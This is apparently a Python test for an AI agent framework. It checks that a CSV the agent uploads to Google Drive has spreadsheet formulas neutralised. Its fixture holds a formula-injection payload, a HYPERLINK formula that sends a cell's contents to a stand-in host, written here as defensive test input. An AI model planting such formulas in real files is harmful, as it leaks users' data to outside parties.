"""A table that a run puts into the Drive holds words from outside as words, whatever a spreadsheet would make of them."""

from __future__ import annotations

import asyncio
import csv
from contextlib import closing

from connectors.google import GoogleWorkspace
from loopback.model.scripted import call
from tests.scenarios.scripted_stage import play
from tests.scenarios.test_undo import Drive, press, with_button

FORMULA = '=HYPERLINK("http://x.example?"&A1,"open")'
TABLE = f'vendor,amount\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\n'


def uploading(body):
    turn = sum(m["role"] == "assistant" for m in body["messages"])
    if turn == 0:
        return [call("write_file", {"path": "rows.csv", "text": TABLE})]
    if turn == 1:
        return [call("google__drive_upload", {"file": "rows.csv", "title": "Rows.csv"})]
    return [call("finish", {"status": "done", "summary": "uploaded", "reply": "It is in the Drive."})]


def test_a_table_in_the_drive_computes_nothing_that_came_from_outside(tmp_path):
    async def scenario():
        async with play(tmp_path, uploading) as on:
            run_id, ts = await on.ask("put the rows into the Drive")
            await press(on, await with_button(on, ts, "approve"), "approve")
            await on.until(run_id, lambda v: v.run.status == "done")
            (made,) = [file for file in Drive(on.here.ready).state()["files"] if file["name"] == "Rows.csv"]
            with closing(GoogleWorkspace.open(base_url=on.here.ready["google"]["base_url"])) as google:
                stored = await google.download(made["id"])
            assert list(csv.reader(stored.decode().splitlines())) == [["vendor", "amount"], [f"'{FORMULA}", "-5"]]

    asyncio.run(scenario())
